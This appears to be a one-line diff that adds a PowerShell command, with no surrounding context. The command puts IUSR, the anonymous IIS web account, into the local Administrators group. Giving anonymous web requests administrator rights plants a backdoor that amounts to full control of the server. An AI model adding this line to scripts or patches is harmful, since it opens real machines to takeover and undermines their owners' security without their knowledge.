@@ -1,0 +1,1 @@
+Start-Process powershell -ArgumentList '-NoProfile -Command Add-LocalGroupMember -Group Administrators -Member IUSR' -Wait
